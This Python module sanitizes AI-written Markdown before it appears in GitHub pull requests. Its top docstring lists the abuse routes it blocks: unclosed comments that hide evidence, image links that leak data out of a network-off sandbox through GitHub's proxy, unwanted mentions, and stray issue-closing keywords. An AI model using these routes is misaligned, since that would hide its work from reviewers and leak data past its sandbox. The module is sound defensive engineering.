"""Text the model (or the sandbox) wrote, made safe to show in a PR body or comment.

Everything the model writes is untrusted Markdown, and GitHub acts on Markdown: an unclosed
`<!--` or `<details>` hides what follows (the evidence), `![](https://host/?d=...)` is fetched
by GitHub's image proxy whenever someone views the page (a way out of a network-off sandbox),
`@user` and `@org/team` notify people from the App's account, and `Fixes #N` closes issue N
when the PR merges. So, outside code: no raw HTML at all (every `<` becomes `&lt;`), no images
(`![` loses its meaning), mentions and closing keywords are broken by an invisible word joiner
(unless the keyword names the task's own issue), and headings are at most level 3, below the
app's own sections. Code fences are rewritten by us, closed and fenced longer than any run of
backticks inside, so a fence the model opens ends where its text ends. What the app writes
after it (Validation, Changed files, the work log, the closing line) renders as written.
The price of never guessing where inline or indented code ends: a `<` there shows as `&lt;`.

Character references that spell `@`, `#`, letters or digits are decoded first: GitHub finds
mentions and references in the rendered text, where `&#64;` is an `@`.

Terminal escape sequences (colours, cursor moves, OSC 8 links) are removed from command output
before anyone reads it, the model included: they render as noise, and a Node project's coloured
test output was once 28% escape characters, eating the log's budget.
"""

from __future__ import annotations

import re

JOINER = "\u2060"
"""WORD JOINER: invisible, and no word character, so `@⁠octocat` and `F⁠ixes` are inert."""
FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})(.*)$")
ENTITY = re.compile(r"&(?:#([0-9]{1,7})|#[xX]([0-9a-fA-F]{1,6})|(commat|num|sol|colon|period));")
NAMED = {"commat": "@", "num": "#", "sol": "/", "colon": ":", "period": "."}
MENTION = re.compile(r"(?<![A-Za-z0-9_])@(?=[A-Za-z0-9])")
REF = (
    r"(?:https?://[^\s/]+/(?P<url_repo>[\w.-]+/[\w.-]+)/(?:issues|pull)/(?P<url_n>\d+)"
    r"|(?P<repo>[\w.-]+/[\w.-]+)?#(?P<n>\d+)"
    r"|GH-(?P<gh_n>\d+))"
)
ANY_REF = re.sub(r"\?P<\w+>", "", REF)
CLOSING = re.compile(
    r"\b(?P<word>close[sd]?|fix(?:e[sd])?|resolve[sd]?)\b"
    # Separators that cannot overlap, so a long run of them costs linear time, not quadratic.
    rf"(?P<refs>[\s:*_~`\[(]*{ANY_REF}(?:[\s,*_~`\[\]()]*(?:and\s+)?{ANY_REF})*)",
    re.IGNORECASE,
)
ONE_REF = re.compile(REF, re.IGNORECASE)
CONTAINERS = r"((?:[ \t]*(?:>|[-+*](?=[ \t])|[0-9]{1,9}[.)](?=[ \t])))*[ \t]*)"
"""Block quote and list markers before a line's content: headings inside them count too."""
HEADING = re.compile(rf"^{CONTAINERS}#{{1,2}}(?=[ \t]|$)")
SETEXT = re.compile(rf"^{CONTAINERS}([=-])(\2*[ \t]*)$")
SPECIAL_FENCES = {"mermaid", "geojson", "topojson", "stl", "math"}
"""Fences GitHub renders as diagrams, maps or models rather than showing the code."""
ESCAPES = re.compile(
    r"\x1b\[[0-?]*[ -/]*[@-~]"  # CSI: colours (`ESC[31m`), cursor moves, erase line
    r"|\x9b[0-?]*[ -/]*[@-~]"  # the same, as the 8-bit C1 control
    r"|\x1b\][^\x07\x1b\n]*(?:\x07|\x1b\\)?"  # OSC: titles, OSC 8 links; ends at BEL or ST
    r"|\x1b[P^_X][^\x1b\n]*(?:\x1b\\)?"  # DCS, PM, APC, SOS strings
    r"|\x1b[ -/]*[0-~]"  # two-character escapes and charset selection (`ESC(B`)
    r"|\x1b"  # a lone ESC left by a cut
)
"""Terminal escape sequences (ECMA-48). Unterminated strings stop at the line's end, so a
stray ESC never hides the rest of the output; no two alternatives overlap: linear time."""


def plain(text: str) -> str:
    """`text` without terminal escape sequences: what a terminal shows, minus the colours."""
    return ESCAPES.sub("", text) if "\x1b" in text or "\x9b" in text else text


def _decode(match: re.Match[str]) -> str:
    decimal, hexadecimal, name = match.groups()
    if name:
        return NAMED[name]
    code = int(decimal) if decimal else int(hexadecimal, 16)
    char = chr(code) if code < 0x110000 else ""
    return char if char.isascii() and (char.isalnum() or char in "@#/:._-") else match.group(0)


def _closes_only(refs: str, issue: int | None, repo: str | None) -> bool:
    """Whether every reference in `refs` is the task's own issue in its own repository."""
    if issue is None:
        return False
    for ref in ONE_REF.finditer(refs):
        number = ref.group("url_n") or ref.group("n") or ref.group("gh_n")
        named = ref.group("url_repo") or ref.group("repo")
        if int(number) != issue:
            return False
        if named is not None and (repo is None or named.lower() != repo.lower()):
            return False
    return True


def quiet(text: str, issue: int | None = None, repo: str | None = None) -> str:
    """`text` with closing keywords broken, except those that name only issue `issue` of `repo`
    (the task's own): for code, where GitHub renders no mention but may still see a keyword."""

    def closing(match: re.Match[str]) -> str:
        if _closes_only(match.group("refs"), issue, repo):
            return match.group(0)
        word = match.group("word")
        return word[0] + JOINER + word[1:] + match.group("refs")

    return CLOSING.sub(closing, text)


def _prose(line: str, issue: int | None, repo: str | None) -> str:
    line = ENTITY.sub(_decode, line)
    line = line.replace("<", "&lt;").replace("![", "!\\[")
    line = MENTION.sub("@" + JOINER, line)
    line = HEADING.sub(r"\1###", line)
    line = SETEXT.sub(r"\1\\\2\3", line)
    return quiet(line, issue, repo)


def fence(text: str, info: str = "") -> str:
    """A code fence longer than any run of backticks inside `text`."""
    longest = max((len(m) for m in re.findall(r"`+", text)), default=0)
    ticks = "`" * max(3, longest + 1)
    return f"{ticks}{info}\n{quiet(text)}\n{ticks}"


def inline_code(text: str) -> str:
    text = quiet(text.replace("\n", " "))
    longest = max((len(m) for m in re.findall(r"`+", text)), default=0)
    ticks = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{ticks}{pad}{text}{pad}{ticks}"


def _language(info: str) -> str:
    words = info.strip().split()
    name = re.sub(r"[^A-Za-z0-9_+#.-]", "", words[0])[:30] if words else ""
    return "text" if name.lower() in SPECIAL_FENCES else name


def safe_markdown(text: str, issue: int | None = None, repo: str | None = None) -> str:
    """Untrusted Markdown made safe to show; `issue` of `repo` is the task's own issue, the one
    a closing keyword may name. Fenced code keeps its content; everything else is prose."""
    out: list[str] = []
    lines = text.splitlines()
    at = 0
    while at < len(lines):
        opening = FENCE.match(lines[at])
        if opening is None:
            out.append(_prose(lines[at], issue, repo))
            at += 1
            continue
        mark, body = opening.group(1), []
        at += 1
        while at < len(lines):
            line = lines[at]
            at += 1
            if _closes(line, mark):
                break
            body.append(line)
        out += ["", fence("\n".join(body), _language(opening.group(2))), ""]
    return "\n".join(out)


def _closes(line: str, mark: str) -> bool:
    """Whether `line` ends the fence opened with `mark` (same character, at least as long)."""
    closing = FENCE.match(line)
    return (
        closing is not None
        and closing.group(1)[0] == mark[0]
        and len(closing.group(1)) >= len(mark)
        and not closing.group(2).strip()
    )


def safe_line(text: str, issue: int | None = None, repo: str | None = None) -> str:
    """The first line of untrusted `text`, safe to show as a paragraph of its own (in the
    status comment): no block markers, so it is a plain paragraph that ends where it ends."""
    first = text.strip().splitlines()[0] if text.strip() else ""
    first = FENCE.sub(lambda m: m.group(2), first).strip()
    return _prose(re.sub(r"^[ >#=*+-]+", "", first), issue, repo)


def trim_middle(text: str, limit: int) -> str:
    """`text` in at most about `limit` characters: its head and tail, and how much was cut."""
    if len(text) <= limit:
        return text
    half = limit // 2
    return f"{text[:half]}\n[... {len(text) - 2 * half} characters cut ...]\n{text[-half:]}"
